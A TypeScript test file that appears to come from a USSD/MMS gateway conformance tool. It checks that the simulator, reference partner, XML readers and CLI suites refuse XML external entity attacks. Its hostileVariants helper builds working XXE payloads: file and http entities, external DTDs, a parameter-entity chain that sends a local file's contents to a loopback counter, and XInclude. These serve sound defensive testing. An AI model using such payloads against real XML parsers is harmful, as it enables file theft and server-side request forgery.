/**
 * XXE across the product's XML endpoints (issue 7): no code path expands an entity or fetches an
 * external DTD. Every document references a temporary file holding a secret marker (it must never appear
 * in any answer, record or log), and a loopback server that counts hits (it must count none), through
 * general entities, external DTDs, parameter entities and XInclude, in UTF-8, UTF-16 (with BOM) and a
 * declared ISO-8859-1. Covered: the simulator's /MSE/ussd, the simulator reading a partner's reply to a
 * USSD event, the reference partner's /receipt, /mo/mms and /ussd, the readers the suites use
 * (readMseResponse, validateXml for every DTD), and both suites run against a target that answers XXE.
 * (test/xml/hostile.test.ts covers the codec on the fixture files; the SMTP path parses no XML.)
 */
import { spawn } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ReferencePartner, startReferencePartner } from '../../src/partner/reference.ts';
import { type Simulator, startSimulator } from '../../src/simulator/index.ts';
import { projectRoot } from '../../src/spec/load.ts';
import { readMseResponse } from '../../src/xml/mse-response.ts';
import { dtdNames, validateXml } from '../../src/xml/validate.ts';
import { portOf, requestBytes, sendRaw, startHitCounter, ussdNotify } from './helpers.ts';

const MARKER = 'XXE-MARKER-7f3c9a1e5b';
const dir = mkdtempSync(join(tmpdir(), 'mse-xxe-'));
const secretFile = join(dir, 'secret.txt');
writeFileSync(secretFile, `${MARKER}\n`);
const fileUrl = `file://${secretFile}`;

let counter: Awaited<ReturnType<typeof startHitCounter>>;
let sim: Simulator;
let partner: ReferencePartner;
let hostilePartner: Server;
const simLog: string[] = [];
/** Hits before the product was exercised (the control hit of the first test). */
let hitsBaseline = 0;
const closers: (() => Promise<void>)[] = [];

/** Every way of asking a parser to reach outside the document, wrapped around a real document body. */
function hostileVariants(root: string, body: string): { name: string; bytes: Buffer }[] {
  const inner = body.replace(/^<\?xml[^>]*\?>/, '');
  const http = counter.url;
  const withEntity = (decl: string, ref: string) =>
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE ${root} [${decl}]>${inner.replace(/>([^<>]+)</, `>$1${ref}<`)}`;
  const texts: [string, string][] = [
    ['file entity', withEntity(`<!ENTITY x SYSTEM "${fileUrl}">`, '&x;')],
    ['http entity', withEntity(`<!ENTITY x SYSTEM "${http}/entity">`, '&x;')],
    ['external DTD', `<?xml version="1.0"?><!DOCTYPE ${root} SYSTEM "${http}/ext.dtd">${inner}`],
    ['public DTD', `<?xml version="1.0"?><!DOCTYPE ${root} PUBLIC "-//X//Y" "${http}/pub.dtd">${inner}`],
    ['parameter entity (http)', withEntity(`<!ENTITY % p SYSTEM "${http}/param.dtd"> %p;`, '&leak;')],
    [
      'parameter entity (file exfiltration)',
      withEntity(
        `<!ENTITY % f SYSTEM "${fileUrl}"><!ENTITY % e "<!ENTITY x SYSTEM '${http}/?%f;'>"> %e;`,
        '&x;',
      ),
    ],
    ['internal entity', withEntity('<!ENTITY x "internal">', '&x;')],
    [
      'XInclude',
      inner.replace(
        /<\/([a-z_-]+)>\s*$/,
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${fileUrl}" parse="text"/></$1>`,
      ),
    ],
  ];
  const out: { name: string; bytes: Buffer }[] = [];
  for (const [name, text] of texts) {
    out.push({ name: `${name}, UTF-8`, bytes: Buffer.from(text, 'utf8') });
    const utf16 = text.replace('encoding="UTF-8"', 'encoding="UTF-16"');
    out.push({
      name: `${name}, UTF-16LE with BOM`,
      bytes: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(utf16, 'utf16le')]),
    });
    const be = Buffer.from(utf16, 'utf16le');
    be.swap16();
    out.push({ name: `${name}, UTF-16BE with BOM`, bytes: Buffer.concat([Buffer.from([0xfe, 0xff]), be]) });
    out.push({
      name: `${name}, declared ISO-8859-1`,
      bytes: Buffer.from(text.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"'), 'latin1'),
    });
  }
  return out;
}

const receiptDoc =
  '<?xml version="1.0" encoding="UTF-8"?><mse-response><status-code>0</status-code><profile>SMS_TEXT</profile><transaction-id>1020606201622668099</transaction-id></mse-response>';
const ussdEventDoc =
  '<?xml version="1.0" encoding="UTF-8"?><ussd_message_response><head><msisdn>1199998888</msisdn><short_code>100</short_code><session_owner>partner</session_owner></head><body><user_init>1</user_init></body></ussd_message_response>';
const mmsDoc =
  '<?xml version="1.0" encoding="UTF-8"?><REQUEST REQ_TYPE="Rcv_MMS_MO"><MSG_ID>m1</MSG_ID><ANUM>1191000000</ANUM><BNUM>3302</BNUM><MMS>aGVsbG8=</MMS></REQUEST>';

/** Hostile replies handed out in turn by the hostile partner (to the simulator's USSD events). */
let hostileReplies: Buffer[] = [];
let replyIndex = 0;

beforeAll(async () => {
  counter = await startHitCounter();
  closers.push(() => counter.close());
  hostilePartner = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const reply = hostileReplies[replyIndex++ % Math.max(1, hostileReplies.length)] ?? Buffer.alloc(0);
      res.writeHead(200, { 'content-type': 'text/xml' });
      res.end(reply);
    });
  });
  await new Promise<void>((r) => hostilePartner.listen(0, '127.0.0.1', () => r()));
  closers.push(
    () =>
      new Promise<void>((r) => {
        hostilePartner.close(() => r());
        hostilePartner.closeAllConnections();
      }),
  );
  sim = await startSimulator({
    smtp: false,
    log: (l) => simLog.push(l),
    callback: `http://127.0.0.1:${(hostilePartner.address() as AddressInfo).port}`,
  });
  closers.push(() => sim.close());
  partner = await startReferencePartner({});
  closers.push(() => partner.close());
});
afterAll(async () => {
  for (const c of closers.reverse()) await c();
  rmSync(dir, { recursive: true, force: true });
});

function assertNothingLeaked(text: string): void {
  expect(text).not.toContain(MARKER);
  expect(text).not.toContain('XXE-HTTP-FETCHED');
}

describe('XXE: no entity is expanded and no external resource fetched, anywhere', () => {
  it('the witnesses work: the hit counter counts and the secret file holds the marker', async () => {
    const before = counter.hits();
    await fetch(`${counter.url}/probe`).then((r) => r.text());
    expect(counter.hits()).toBe(before + 1);
    expect(readFileSync(secretFile, 'utf8')).toContain(MARKER);
    // Reset the baseline: the control hit is not a product hit.
    hitsBaseline = counter.hits();
  });

  it('simulator /MSE/ussd: every hostile command is refused with an mse-response and fetches nothing', async () => {
    for (const v of hostileVariants('ussd_message_request', ussdNotify())) {
      const o = await sendRaw(
        portOf(sim.url),
        requestBytes({
          method: 'POST',
          target: '/MSE/ussd',
          headers: [['content-type', 'text/xml']],
          body: v.bytes,
        }),
      );
      expect(o.kind, v.name).toBe('response');
      if (o.kind !== 'response') continue;
      const r = readMseResponse(o.response.body);
      expect(r.statusCode, v.name).not.toBe(0);
      assertNothingLeaked(o.response.body.toString('utf8'));
    }
    expect(counter.hits() - hitsBaseline).toBe(0);
  });

  it('simulator reading a partner reply to a USSD event: hostile replies are refused, nothing fetched', async () => {
    hostileReplies = hostileVariants('ussd_message_request', ussdNotify()).map((v) => v.bytes);
    replyIndex = 0;
    for (let i = 0; i < hostileReplies.length; i++) {
      const res = await fetch(`${sim.controlUrl}/ussd/event`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ msisdn: '1199998888', shortCode: '100', kind: 'user-init' }),
      });
      const text = await res.text();
      expect(res.status).toBeLessThan(500);
      const parsed = JSON.parse(text) as { reply?: { valid?: boolean } };
      expect(parsed.reply?.valid).toBe(false);
      assertNothingLeaked(text);
    }
    expect(replyIndex).toBe(hostileReplies.length);
    const timelines = await (await fetch(`${sim.controlUrl}/transactions`)).text();
    assertNothingLeaked(timelines);
    assertNothingLeaked(simLog.join('\n'));
    expect(counter.hits() - hitsBaseline).toBe(0);
  });

  it('reference partner /receipt, /mo/mms, /ussd: hostile deliveries are refused, nothing fetched', async () => {
    const cases: [string, string, string][] = [
      ['/receipt', 'mse-response', receiptDoc],
      ['/mo/mms', 'REQUEST', mmsDoc],
      ['/ussd', 'ussd_message_response', ussdEventDoc],
    ];
    for (const [path, root, doc] of cases)
      for (const v of hostileVariants(root, doc)) {
        const o = await sendRaw(
          portOf(partner.url),
          requestBytes({
            method: 'POST',
            target: path,
            headers: [['content-type', 'text/xml']],
            body: v.bytes,
          }),
        );
        expect(o.kind, `${path} ${v.name}`).toBe('response');
        if (o.kind !== 'response') continue;
        expect(o.response.status, `${path} ${v.name}`).toBeLessThan(500);
        assertNothingLeaked(o.response.body.toString('utf8'));
      }
    const inbox = await (await fetch(`${partner.url}/inbox`)).text();
    assertNothingLeaked(inbox);
    expect(counter.hits() - hitsBaseline).toBe(0);
  });

  it('readMseResponse and validateXml (every DTD) refuse every variant', () => {
    for (const v of hostileVariants('mse-response', receiptDoc)) {
      let message = '';
      try {
        readMseResponse(v.bytes);
      } catch (e) {
        message = (e as Error).message;
      }
      // XInclude is only an undeclared element: refused by the DTD, never processed.
      expect(message, v.name).not.toBe('');
      assertNothingLeaked(message);
      for (const dtd of dtdNames) {
        const r = validateXml(v.bytes, dtd);
        expect(r.ok, `${v.name} ${dtd}`).toBe(false);
        if (!r.ok) assertNothingLeaked(r.errors.join('\n'));
      }
    }
    expect(counter.hits() - hitsBaseline).toBe(0);
  });
});

function cli(args: string[]): Promise<{ code: number; output: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(projectRoot, 'bin', 'mse-conformance.js'), ...args], {
      cwd: projectRoot,
    });
    let output = '';
    child.stdout.on('data', (c: Buffer) => {
      output += c.toString();
    });
    child.stderr.on('data', (c: Buffer) => {
      output += c.toString();
    });
    child.on('close', (code) => resolve({ code: code ?? -1, output }));
  });
}

function allFiles(root: string): string[] {
  return readdirSync(root).flatMap((f) => {
    const p = join(root, f);
    return statSync(p).isDirectory() ? allFiles(p) : [p];
  });
}

describe('XXE through the suites: a target that answers with hostile XML is judged, never expanded', () => {
  it('gateway suite against an MSE whose every answer carries an XXE mse-response', async () => {
    const variants = hostileVariants('mse-response', receiptDoc);
    let i = 0;
    const mse = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'content-type': 'text/xml; charset=UTF-8' });
        res.end(variants[i++ % variants.length]!.bytes);
      });
    });
    await new Promise<void>((r) => mse.listen(0, '127.0.0.1', () => r()));
    const out = join(dir, 'gateway-out');
    const config = join(dir, 'gateway.json');
    writeFileSync(
      config,
      JSON.stringify({
        version: 1,
        timeouts: { requestMs: 2000, syncMs: 2000, receiptMs: 300, quietMs: 200, redeliveryMs: 300 },
        profiles: {
          SMS_TEXT: { profile: 'SMS_TEXT', password: 'xxe-run-password' },
          USSD_NOTIFY: { profile: 'USSD_NOTIFY', password: 'xxe-run-password' },
        },
      }),
    );
    try {
      const run = await cli([
        'gateway',
        '--target',
        `http://127.0.0.1:${(mse.address() as AddressInfo).port}`,
        '--config',
        config,
        '--only',
        'family:transport,family:envelope,family:security',
        '--report',
        'json,junit,html,md',
        '--out',
        out,
      ]);
      expect(run.code, run.output.slice(-2000)).toBe(1);
      expect(i).toBeGreaterThan(10);
      assertNothingLeaked(run.output);
      for (const f of allFiles(out)) assertNothingLeaked(readFileSync(f, 'latin1'));
      expect(counter.hits() - hitsBaseline).toBe(0);
    } finally {
      await new Promise<void>((r) => {
        mse.close(() => r());
        mse.closeAllConnections();
      });
    }
  });

  it('partner suite against a partner that answers every delivery with XXE documents', async () => {
    const variants = hostileVariants('ussd_message_request', ussdNotify());
    let i = 0;
    const bad = createServer((req, res) => {
      req.resume();
      req.on('end', () => {
        res.writeHead(200, { 'content-type': 'text/xml; charset=UTF-8' });
        res.end(variants[i++ % variants.length]!.bytes);
      });
    });
    await new Promise<void>((r) => bad.listen(0, '127.0.0.1', () => r()));
    const out = join(dir, 'partner-out');
    try {
      const run = await cli([
        'partner',
        '--target',
        `http://127.0.0.1:${(bad.address() as AddressInfo).port}`,
        '--report',
        'json,junit,html,md',
        '--out',
        out,
      ]);
      expect(run.code, run.output.slice(-2000)).toBe(1);
      expect(i).toBeGreaterThan(10);
      assertNothingLeaked(run.output);
      for (const f of allFiles(out)) assertNothingLeaked(readFileSync(f, 'latin1'));
      expect(counter.hits() - hitsBaseline).toBe(0);
    } finally {
      await new Promise<void>((r) => {
        bad.close(() => r());
        bad.closeAllConnections();
      });
    }
  });
});
